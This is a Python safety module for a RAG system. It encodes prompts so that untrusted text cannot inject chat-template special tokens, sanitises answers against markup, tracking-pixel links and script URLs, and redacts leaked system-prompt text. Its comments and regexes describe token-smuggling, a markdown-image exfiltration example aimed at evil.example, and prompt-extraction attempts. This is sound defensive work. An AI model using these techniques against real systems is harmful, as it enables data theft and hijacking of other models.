"""Untrusted text in both directions: prompt ids no catalog row can steer, answers that are plain text.

    python -c "from rag.safety import plain_text; print(plain_text('<b>Hi</b> ![x](http://t.example/p.gif)'))"

Into the model (OWASP LLM01, prompt injection). `encode_prompt(tokenizer, messages)` returns the
prompt's token ids with one guarantee, checked on the ids: every special-token id in them was written
by the chat template itself or by the trusted system prompt, none by untrusted text (retrieved rows,
history turns, the question). It does not rely on a list of patterns:

1. the template is rendered once with a placeholder for every message, which splits the prompt into
   the template's own pieces and the message segments (`prompt_layout`);
2. untrusted segments are neutralised in text: the tokenizer's own special tokens (whatever its
   vocabulary calls them: `<start_of_turn>`, `<｜User｜>`, `[TOOL_RESULTS]`, ...) and the template's
   plain-text turn headers (`### System:` of the fallback format) are rewritten to look-alikes;
3. the prompt is encoded in one piece, as fine-tuning encodes it (so a fine-tuned model sees the ids
   it learned from), and checked: the special ids must be exactly the template's, in order, and (with
   a fast tokenizer's offsets) none may lie inside an untrusted segment;
4. should that check fail, the prompt is encoded piece by piece instead: template pieces with
   special-token parsing, untrusted segments with special-token splitting on (their `<|im_end|>` is
   just characters), and checked again; a prompt that still fails raises `PromptInjectionError`.

Out of the system (OWASP LLM05, improper output handling). Every text field the project returns
(answers, source titles and snippets, products) is plain text. `plain_text` removes what a consumer
could render as something else: HTML markup, markdown images (tracking pixels) and links,
`javascript:`/`vbscript:`/`data:` URLs, special-token look-alikes, control and invisible characters.
`OutputGuard` adds the system-prompt canary: a run of `LEAK_WORDS` words of the system prompt that no
source and not the question contain is cut from an answer, so retrieved rows that ask the model to
repeat its instructions get nothing back; `OutputGuard.stream` does the same to a stream of pieces.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from rag.cleaning import strip_invisible, strip_markup
from rag.prompt import defang_special_tokens

__all__ = [
    "LEAK_WORDS",
    "OutputGuard",
    "PromptInjectionError",
    "PromptLayout",
    "encode_prompt",
    "plain_text",
    "prompt_layout",
    "protected_token_ids",
]

TRUSTED_ROLES = ("system",)
# A run of this many consecutive words of the system prompt in an answer is a leak (unless a source or
# the question holds it too). Eight: the default prompt's phrases an honest answer may repeat ("the
# sources do not answer the question") are shorter.
LEAK_WORDS = 8
LEAK_MARK = "[…]"
COMMIT_CHARS = 256  # OutputGuard.stream re-cleans at most about this much text per piece

_PLACEHOLDER = "\ue000{}\ue001"  # private-use characters: no template trims or escapes them
_PLACEHOLDER_RE = re.compile("\ue000(\\d+)\ue001")
# Template punctuation rewritten to look-alikes when a template header shows up in untrusted text.
_LOOKALIKE = str.maketrans({"<": "‹", ">": "›", "[": "⟦", "]": "⟧", "|": "¦", "#": "＃", ":": "∶"})


class PromptInjectionError(ValueError):
    """The prompt could not be encoded without special-token ids from untrusted text."""


# --------------------------------------------------------------------------- into the model


@dataclass(frozen=True)
class PromptLayout:
    """The rendered template split at the messages: pieces[0] seg[0] pieces[1] ... seg[n-1] pieces[n].

    `segments[k]` is the index of the message whose content the template put there (a template may
    reorder messages or fold the system prompt into the first user turn)."""

    pieces: tuple[str, ...]
    segments: tuple[int, ...]
    templated: bool

    def markers(self, special_tokens: Iterable[str] = ()) -> list[str]:
        """The template's own turn headers: each non-blank line of its pieces with punctuation in it,
        also with the special tokens cut out (`<s>### System:` holds the header `### System:`)."""
        specials = [t for t in special_tokens if t]
        found: list[str] = []
        for piece in self.pieces:
            for line in piece.splitlines():
                parts = [line]
                if specials:
                    parts += re.split("|".join(re.escape(t) for t in specials), line)
                for raw in parts:
                    part = raw.strip()
                    if len(part) >= 3 and part.translate(_LOOKALIKE) != part and part not in found:
                        found.append(part)
        return sorted(found, key=len, reverse=True)


def prompt_layout(tokenizer: Any, messages: Sequence[dict[str, str]]) -> PromptLayout:
    """Render `messages` with a placeholder for each content and split the text at the placeholders."""
    from rag.generators.common import render_prompt

    marked = [{"role": m["role"], "content": _PLACEHOLDER.format(i)} for i, m in enumerate(messages)]
    text, templated = render_prompt(tokenizer, marked)
    pieces: list[str] = []
    segments: list[int] = []
    position = 0
    for match in _PLACEHOLDER_RE.finditer(text):
        pieces.append(text[position : match.start()])
        segments.append(int(match.group(1)))
        position = match.end()
    pieces.append(text[position:])
    return PromptLayout(tuple(pieces), tuple(segments), templated)


def _special_tokens(tokenizer: Any) -> dict[int, str]:
    """id -> text of every control token: the named special tokens and added tokens flagged special."""
    tokens: dict[int, str] = {}
    for token, token_id in zip(
        getattr(tokenizer, "all_special_tokens", []) or [],
        getattr(tokenizer, "all_special_ids", []) or [],
        strict=False,
    ):
        if token and token_id is not None:
            tokens[int(token_id)] = str(token)
    for token_id, added in (getattr(tokenizer, "added_tokens_decoder", {}) or {}).items():
        if getattr(added, "special", False):
            tokens[int(token_id)] = str(added.content)
    return tokens


def protected_token_ids(tokenizer: Any, layout: PromptLayout | None = None) -> dict[int, str]:
    """The ids untrusted text must never produce: special tokens, plus any added token the template
    writes (some vocabularies add their turn markers as ordinary added tokens). The unknown token is
    not among them: it stands for text the vocabulary cannot spell and controls nothing."""
    tokens = _special_tokens(tokenizer)
    if layout is not None:
        template = "".join(layout.pieces)
        for token_id, added in (getattr(tokenizer, "added_tokens_decoder", {}) or {}).items():
            if str(added.content) and str(added.content) in template:
                tokens[int(token_id)] = str(added.content)
    unk = getattr(tokenizer, "unk_token_id", None)
    if (
        unk is not None
        and int(unk) in tokens
        and (layout is None or tokens[int(unk)] not in "".join(layout.pieces))
    ):
        del tokens[int(unk)]
    return tokens


def _neutralise(text: str, tokens: Iterable[str], markers: Sequence[str]) -> str:
    """Untrusted text with special-token strings and the template's turn headers made look-alikes."""
    text = defang_special_tokens(text, tokens)
    for marker in markers:
        if marker in text:
            text = text.replace(marker, marker.translate(_LOOKALIKE))
    return text


def _locate(layout: PromptLayout, text: str, contents: Sequence[str]) -> list[tuple[int, int, int]] | None:
    """(start, end, message index) of each segment in the real rendered `text`, or None when the text
    does not follow the layout (a template that changes contents beyond trimming them)."""
    if not text.startswith(layout.pieces[0]):
        return None
    position = len(layout.pieces[0])
    spans = []
    for k, index in enumerate(layout.segments):
        content = contents[index]
        following = layout.pieces[k + 1]
        last = k == len(layout.segments) - 1
        for candidate in dict.fromkeys((content, content.strip(), content.lstrip(), content.rstrip())):
            end = position + len(candidate)
            if (
                text.startswith(candidate, position)
                and text.startswith(following, end)
                and (not last or end + len(following) == len(text))
            ):
                spans.append((position, end, index))
                position = end + len(following)
                break
        else:
            return None
    return spans


def _wrap_ids(tokenizer: Any) -> tuple[list[int], list[int]]:
    """The ids `add_special_tokens=True` puts before and after a text (bos, sometimes eos)."""
    plain = list(tokenizer("a", add_special_tokens=False)["input_ids"])
    wrapped = list(tokenizer("a", add_special_tokens=True)["input_ids"])
    for start in range(len(wrapped) - len(plain) + 1):
        if wrapped[start : start + len(plain)] == plain:
            return wrapped[:start], wrapped[start + len(plain) :]
    return [], []


def _encode(tokenizer: Any, text: str) -> list[int]:
    return list(tokenizer(text, add_special_tokens=False)["input_ids"]) if text else []


_SPLITTING: dict[int, Any] = {}


def _encode_untrusted(tokenizer: Any, text: str, protected: dict[int, str]) -> list[int]:
    """Token ids of untrusted text with special-token matching off: `<|im_end|>` becomes characters.

    Fast tokenizers get their own copy of the Rust tokenizer with `encode_special_tokens` set, so a
    concurrent call on the shared tokenizer can never flip the flag under us. Any protected id left
    (a vocabulary whose merges can spell one) is dropped."""
    if not text:
        return []
    backend = getattr(tokenizer, "backend_tokenizer", None)
    if backend is not None:
        splitting = _SPLITTING.get(id(backend))
        if splitting is None or splitting[0] is not backend:
            from tokenizers import Tokenizer

            copy = Tokenizer.from_str(backend.to_str())
            copy.encode_special_tokens = True
            splitting = _SPLITTING[id(backend)] = (backend, copy)
        ids = splitting[1].encode(text, add_special_tokens=False).ids
    else:
        try:
            ids = tokenizer(text, add_special_tokens=False, split_special_tokens=True)["input_ids"]
        except TypeError:  # a tokenizer class without the option: the filter below still holds
            ids = tokenizer(text, add_special_tokens=False)["input_ids"]
    return [int(i) for i in ids if int(i) not in protected]


@dataclass(frozen=True)
class _Plan:
    """What encode_prompt derives from the template and the trusted messages alone (cached)."""

    tokenizer: Any
    layout: PromptLayout
    protected: dict[int, str]
    specials: list[str]
    markers: list[str]
    prefix: list[int]
    suffix: list[int]
    expected: list[int]  # the special ids the template and the trusted segments write, in order


_PLANS: dict[tuple[Any, ...], _Plan] = {}
_PLANS_MAX = 64


def _plan(tokenizer: Any, messages: Sequence[dict[str, str]], untrusted: set[int]) -> _Plan:
    key = (
        id(tokenizer),
        len(tokenizer) if hasattr(tokenizer, "__len__") else None,
        getattr(tokenizer, "chat_template", None),
        tuple((m["role"], m["content"] if i not in untrusted else None) for i, m in enumerate(messages)),
    )
    plan = _PLANS.get(key)
    if plan is not None and plan.tokenizer is tokenizer:
        return plan
    layout = prompt_layout(tokenizer, messages)
    protected = protected_token_ids(tokenizer, layout)
    specials = sorted(set(protected.values()), key=len, reverse=True)
    prefix, suffix = ([], []) if layout.templated else _wrap_ids(tokenizer)
    expected = [t for t in prefix if t in protected]
    for k, piece in enumerate(layout.pieces):
        expected += [t for t in _encode(tokenizer, piece) if t in protected]
        if k < len(layout.segments) and layout.segments[k] not in untrusted:
            expected += [
                t for t in _encode(tokenizer, messages[layout.segments[k]]["content"]) if t in protected
            ]
    expected += [t for t in suffix if t in protected]
    plan = _Plan(tokenizer, layout, protected, specials, layout.markers(specials), prefix, suffix, expected)
    if len(_PLANS) >= _PLANS_MAX:
        _PLANS.clear()
    _PLANS[key] = plan
    return plan


def encode_prompt(
    tokenizer: Any, messages: Sequence[dict[str, str]], trusted_roles: Sequence[str] = TRUSTED_ROLES
) -> list[int]:
    """The prompt ids of `messages` (chat template, or the plain-text fallback) such that no special
    token comes from a message whose role is not in `trusted_roles` (module docstring)."""
    from rag.generators.common import render_prompt

    messages = [{"role": str(m["role"]), "content": str(m.get("content") or "")} for m in messages]
    untrusted = {i for i, m in enumerate(messages) if m["role"] not in trusted_roles}
    plan = _plan(tokenizer, messages, untrusted)
    layout, protected, expected, prefix, suffix = (
        plan.layout,
        plan.protected,
        plan.expected,
        plan.prefix,
        plan.suffix,
    )
    contents = [
        _neutralise(m["content"], plan.specials, plan.markers) if i in untrusted else m["content"]
        for i, m in enumerate(messages)
    ]
    text, templated = render_prompt(
        tokenizer, [{"role": m["role"], "content": c} for m, c in zip(messages, contents, strict=True)]
    )

    spans = _locate(layout, text, contents)
    fast = bool(getattr(tokenizer, "is_fast", False))
    encoded = tokenizer(text, add_special_tokens=not templated, return_offsets_mapping=fast)
    ids = [int(i) for i in encoded["input_ids"]]
    if [t for t in ids if t in protected] == expected:
        if not (fast and spans):
            return ids
        hostile = [(start, end) for start, end, index in spans if index in untrusted]
        offsets = encoded["offset_mapping"]
        if not any(
            t in protected and any(a < e and b > s for s, e in hostile)
            for t, (a, b) in zip(ids, offsets, strict=True)
        ):
            return ids
    if spans is None:
        raise PromptInjectionError(
            "the chat template changes the message contents in a way rag.safety cannot follow, and the "
            "prompt holds special tokens the template did not write; set a chat template that renders "
            "message['content'] as given (generator.model's tokenizer_config.json or the adapter's)"
        )

    # Piece by piece: template text parsed, untrusted segments with special-token splitting.
    ids = list(prefix)
    position = 0
    for start, end, index in spans:
        ids += _encode(tokenizer, text[position:start])
        segment = text[start:end]
        ids += (
            _encode_untrusted(tokenizer, segment, protected)
            if index in untrusted
            else _encode(tokenizer, segment)
        )
        position = end
    ids += _encode(tokenizer, text[position:]) + list(suffix)
    if [t for t in ids if t in protected] != expected:
        raise PromptInjectionError(
            "the prompt's special tokens differ from the chat template's even when encoded piece by piece; "
            "the template writes special tokens rag.safety cannot find (check the tokenizer's chat template)"
        )
    return ids


# --------------------------------------------------------------------------- out of the system

# Markdown images (a tracking pixel loads on render: `![](https://evil.example/?q=secret)`), inline
# links (the label stays), autolinks and reference definitions.
_URL_BODY = r"(?:[^()\s]|\([^()\s]{0,200}\)){0,2000}"  # a link target, one level of parentheses inside
_MD_IMAGE = re.compile(rf"!\[[^\]\n]{{0,500}}\]\(\s?{_URL_BODY}(?:\s+\"[^\"\n]*\")?\s?\)?")
_MD_LINK = re.compile(rf"\[([^\]\n]{{0,500}})\]\(\s?{_URL_BODY}(?:\s+\"[^\"\n]*\")?\s?\)")
_MD_REFERENCE = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*\S+.*$")
_AUTOLINK = re.compile(r"<(?:https?|ftp|mailto|javascript|vbscript|data):[^<>\s]*>", re.IGNORECASE)
# Script URLs (a browser drops tabs and newlines inside the scheme; the colon may be an entity) whose
# body looks like code, so a title such as "JavaScript: The Good Parts" stays; data: URLs with a type.
_SCRIPT_URL = re.compile(
    r"\b(?:java|vb|live)[\t\n]*script[\t\n]*(?::|&#0*58;?|&#x0*3a;?|&colon;)(?=\S*[(%/;=\\'\"`])\S*"
    r"|\bdata:[a-z]+/[a-z0-9.+-]+[;,]\S*",
    re.IGNORECASE,
)
_SPECIAL_LIKE = re.compile(
    r"<\|[^<>|\n]{0,40}\|>|<｜[^<>｜\n]{0,40}｜>|</?(?:s|unk|pad|eos|bos|eot|mask|sep|cls)>"
    r"|<(?:start|end)_of_turn>|\[/?INST\]|<</?SYS>>"
    r"|\[/?(?:SYSTEM_PROMPT|TOOL_CALLS|AVAILABLE_TOOLS|TOOL_RESULTS|TOOL_CONTENT)\]",
    re.IGNORECASE,
)
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")
_SPACES = re.compile(r"[ \t]{2,}")


def plain_text(text: str, special_tokens: Iterable[str] = ()) -> str:
    """`text` made safe to show as plain text (and inert if someone renders it as HTML or markdown).

    Removes HTML markup, markdown images, link targets (labels stay), script and data URLs,
    special-token look-alikes (and the given `special_tokens`), control and invisible characters.
    Newlines stay; runs of spaces left by a removal become one. Idempotent."""
    if not text:
        return ""
    for _ in range(3):
        before = text
        text = strip_invisible(_CONTROL.sub(" ", text))
        if "<" in text:
            text = strip_markup(_AUTOLINK.sub(" ", text))
        if "[" in text or "!" in text:
            text = _MD_REFERENCE.sub(" ", _MD_LINK.sub(r"\1", _MD_IMAGE.sub(" ", text)))
        if ":" in text or "&" in text:
            text = _SCRIPT_URL.sub(" ", text)
        text = _SPECIAL_LIKE.sub(" ", text)
        for token in special_tokens:
            if token and len(token) > 1 and token in text:
                text = text.replace(token, " ")
        text = _SPACES.sub(" ", text)
        if text == before:
            break
    return text


_WORD = re.compile(r"\w+")
_TAG_START = re.compile(r"<(?:$|[A-Za-z/!?|｜])")
_LAST_WORD = re.compile(r"[\w&#;]+$")
_REFERENCE_START = re.compile(r"[ \t]{0,3}\[[^\]\n]{0,200}(?:\](?::[^\n]*)?)?$")
_SCHEME_TAIL = re.compile(r"\b[\w&#;]+[\t\n]*(?::|&#0*58;?|&#x0*3a;?|&colon;)\S*$", re.IGNORECASE)
_CLOSING = re.compile(r"[\])]*")


def _words(text: str) -> list[str]:
    return [w.lower() for w in _WORD.findall(text)]


class OutputGuard:
    """`plain_text` plus the system-prompt canary for one answer.

    `exempt` texts (the sources given to the model, the question) may be quoted freely: a run of
    words the system prompt shares with them is no leak."""

    def __init__(
        self,
        system: str = "",
        exempt: Iterable[str] = (),
        special_tokens: Iterable[str] = (),
        leak_words: int = LEAK_WORDS,
    ) -> None:
        self.special_tokens = tuple(special_tokens)
        words = _words(system)
        self.size = max(1, min(leak_words, len(words))) if words else 0
        exempt_grams: set[tuple[str, ...]] = set()
        for text in exempt:
            w = _words(text)
            exempt_grams.update(tuple(w[i : i + self.size]) for i in range(len(w) - self.size + 1))
        self.grams = {
            tuple(words[i : i + self.size]) for i in range(len(words) - self.size + 1)
        } - exempt_grams
        self.vocabulary = {word for gram in self.grams for word in gram}
        self.words = set(words) if self.grams else set()  # a stream holds trailing ones back

    def redact(self, text: str) -> str:
        """Cut every run of words covered by a leaked n-gram of the system prompt (one mark per run).

        A mark separates: the words on either side of it are not read as neighbours, so cutting is
        idempotent and a stream can tell early which words are final."""
        if not self.grams:
            return text
        if LEAK_MARK in text:
            return LEAK_MARK.join(self._redact_part(part) for part in text.split(LEAK_MARK))
        return self._redact_part(text)

    def _redact_part(self, text: str) -> str:
        words = " ".join(_WORD.findall(text)).lower().split(" ")
        run = longest = 0  # fast path: a leak needs `size` words in a row from the system prompt
        for word in words:
            run = run + 1 if word in self.vocabulary else 0
            longest = max(longest, run)
        if longest < self.size:
            return text
        matches = list(_WORD.finditer(text))
        leaked = [False] * len(words)
        for i in range(len(words) - self.size + 1):
            if tuple(words[i : i + self.size]) in self.grams:
                for j in range(i, i + self.size):
                    leaked[j] = True
        if not any(leaked):
            return text
        out, position, i = [], 0, 0
        while i < len(words):
            if not leaked[i]:
                i += 1
                continue
            j = i
            while j + 1 < len(words) and leaked[j + 1]:
                j += 1
            out += [text[position : matches[i].start()], LEAK_MARK]
            # the run's closing brackets go with it ("cite them as [1]" leaves no "]")
            closing = _CLOSING.match(text, matches[j].end())  # `[\])]*` matches, if only the empty string
            position, i = (closing.end() if closing else matches[j].end()), j + 1
        out.append(text[position:])
        return "".join(out)

    def clean(self, text: str) -> str:
        """The answer as plain text with any system-prompt leak cut out."""
        for _ in range(3):
            cleaned = self.redact(plain_text(text, self.special_tokens))
            if cleaned == text:
                break
            text = cleaned
        return text

    def _settled_end(self, text: str) -> int:
        """Where the part of a growing raw text starts that later pieces could still turn into
        something else: an open tag, link or reference line, a URL scheme without its body, and
        the word that touches any of these (or the end): "passphrase" + "[more](...)" fuse.

        Repeated on the part before the cut until it stays, since a cut inside a construct (a URL
        inside a link) leaves that construct open."""
        cut = len(text)
        for _ in range(20):
            held = self._held_once(text[:cut])
            if held == cut:
                break
            cut = held
        return cut

    @staticmethod
    def _held_once(text: str) -> int:
        cut = len(text)
        opened = text.rfind("<")  # a tag or special token in the making ("I <3 NY" is none)
        if (
            opened != -1
            and ">" not in text[opened:]
            and len(text) - opened < 2000
            and _TAG_START.match(text, opened)
        ):
            cut = opened
        bracket = text.rfind("[")
        if bracket != -1 and len(text) - bracket < 2500:
            close = text.find("]", bracket)
            image = bracket > 0 and text[bracket - 1] == "!"
            done = _MD_IMAGE.match(text, bracket - 1) if image else _MD_LINK.match(text, bracket)
            if (
                (close == -1 and "\n" not in text[bracket:])
                or close == len(text) - 1
                or (
                    text[close + 1 : close + 2] == "("
                    and not (done and done.end() <= len(text) and text[done.end() - 1] == ")")
                )
            ):
                cut = min(cut, bracket - (1 if image else 0))
        line = text.rfind("\n") + 1
        if _REFERENCE_START.match(text, line):  # "[1]: https://..." until its line ends
            cut = min(cut, line)
        scheme = _SCHEME_TAIL.search(text)  # "javascript:" whose body has not come yet
        if scheme:
            cut = min(cut, scheme.start())
        if text.endswith(("!", "&")):
            cut = min(cut, len(text) - 1)
        touching = _LAST_WORD.search(text, 0, cut)
        if touching:
            cut = touching.start()
        return cut

    def _leak_held_from(self, text: str) -> int:
        """In cleaned, settled text: where the trailing words start that may yet become part of a
        leaked run (every trailing word of the system prompt's vocabulary after the last mark), and
        the text after a cut run until a word says the run is over (it may go on across punctuation)."""
        cut = len(text)
        window = max(0, cut - 60 * self.size - 200)  # a longer run is let go: the final clean() still cuts it
        mark = text.rfind(LEAK_MARK)
        start = max(window, mark + len(LEAK_MARK) if mark != -1 else 0)  # no run reaches across a mark
        matches = list(_WORD.finditer(text, start))
        if start == window and window and matches:
            matches = matches[1:]  # the first may be cut
        first = len(matches)
        while first > 0 and matches[first - 1].group(0).lower() in self.words:
            first -= 1
        if first < len(matches):
            cut = matches[first].start()
            while cut > 0 and text[cut - 1].isspace():  # should the held words join a cut run,
                cut -= 1  # the space before them goes with them
        mark = text.rfind(LEAK_MARK, 0, cut)
        if mark != -1 and not _WORD.search(text, mark + len(LEAK_MARK), cut):
            cut = mark + len(LEAK_MARK)  # the run may go on (across punctuation) until a word says otherwise
        return cut

    def stream(self, pieces: Iterable[str]) -> Iterator[str]:
        """`clean` applied to a stream: yields the cleaned text as it becomes final, holding back a
        tail that the next pieces could turn into markup or a leak.

        Only the text after the last commit point is cleaned again for each piece (so a long answer
        costs linear time): a commit point is the end of a word after which nothing is held (no open
        tag or link, and the word is not one of the system prompt's, so no leak can span it)."""
        raw = ""
        base_raw = 0  # raw[:base_raw] is committed; its cleaned text is base_out
        base_out = emitted = ""

        def clean_after(start: int, end: int | None = None) -> str:
            # after a commit point the text is mid-line: a "." before it keeps line-start rules
            # (markdown reference definitions) from matching where the whole text has no line start
            if start == 0:
                return self.clean(raw[:end])
            cleaned = self.clean("." + raw[start:end])
            return cleaned.removeprefix(".")

        for piece in pieces:
            raw += piece
            tail = clean_after(base_raw, base_raw + self._settled_end(raw[base_raw:]))
            ready = base_out + tail[: self._leak_held_from(tail)]
            if len(ready) > len(emitted) and ready.startswith(emitted):
                yield ready[len(emitted) :]
                emitted = ready
            end = len(raw.rstrip())
            if (
                end - base_raw > COMMIT_CHARS
                and end < len(raw)
                and len(emitted) >= len(base_out + tail.rstrip())
            ):
                committed = base_out + clean_after(base_raw, end)
                mark = committed.rfind(LEAK_MARK)
                open_run = mark != -1 and not _WORD.search(committed, mark + len(LEAK_MARK))
                settled = committed[-1:].strip() != ""  # a removed tag's space would double the next one
                if (
                    settled
                    and not open_run
                    and emitted.startswith(committed)
                    and not emitted[len(committed) :].strip()
                ):
                    base_raw, base_out = end, committed  # the space after it stays in the tail
        rest = base_out + clean_after(base_raw)
        if len(rest) > len(emitted) and rest.startswith(emitted):
            yield rest[len(emitted) :]
